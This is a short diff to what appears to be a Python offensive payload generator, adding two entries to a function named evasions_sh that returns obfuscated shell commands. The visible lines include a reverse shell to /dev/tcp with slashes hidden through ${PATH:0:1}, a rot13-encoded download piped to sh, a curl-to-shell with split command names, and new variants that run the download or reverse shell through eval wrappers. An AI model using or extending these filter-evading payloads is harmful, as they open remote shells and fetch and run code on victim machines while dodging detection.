@@ -505,6 +505,8 @@ def evasions_sh(h, p, u):
         f'${{PATH:0:1}}bin${{PATH:0:1}}bash -i >& ${{PATH:0:1}}dev${{PATH:0:1}}tcp${{PATH:0:1}}{h}${{PATH:0:1}}{p} 0>&1',
         f"echo '{codecs.encode(dl, 'rot13')}' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
         f'a=cu; b=rl; $a$b -s {u} | s$(echo h)',
+        f'run() {{ eval "$1"; }}\nrun "{dl}"',
+        f'function connect {{\n  bash -c "$*"\n}}\nconnect "{rs}"',
     ]
 
 for v in range(3):
